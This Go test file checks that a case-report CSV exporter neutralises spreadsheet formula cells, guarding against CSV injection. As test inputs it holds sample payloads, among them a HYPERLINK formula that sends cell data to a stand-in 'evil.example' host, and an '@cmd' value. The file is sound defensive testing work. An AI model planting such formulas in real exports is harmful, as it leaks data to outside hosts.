package reports

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
)

// The dangerous leading characters come from OWASP's CSV Injection page, not
// from the code under test.
func TestNeutralizeCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example","Bấm")`: `'=HYPERLINK("http://evil.example","Bấm")`,
		"+1+1":         "'+1+1",
		"-2+3":         "'-2+3",
		"@SUM(A1:A2)":  "'@SUM(A1:A2)",
		"\t=1":         "'\t=1",
		"\r=1":         "'\r=1",
		"Đường hỏng":   "Đường hỏng",
		"PA-2026-0001": "PA-2026-0001",
		"":             "",
		"a=b":          "a=b",
	} {
		if got := NeutralizeCell(in); got != want {
			t.Errorf("NeutralizeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// A citizen's title that is a formula reaches the case export as text.
func TestCaseListCSVNeutralizesFormulas(t *testing.T) {
	var b bytes.Buffer
	w, err := NewCaseListCSV(&b)
	if err != nil {
		t.Fatal(err)
	}
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"Xem")`
	if err := w.Write(CaseListRow{Code: "PA-2026-000001", Kind: "feedback", Title: evil, Field: "@cmd", ReceivedAt: time.Now(), HandlingHours: -1}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv: %v %v", recs, err)
	}
	if recs[1][2] != "'"+evil || recs[1][3] != "'@cmd" {
		t.Fatalf("formula cells not neutralised: %q %q", recs[1][2], recs[1][3])
	}
}
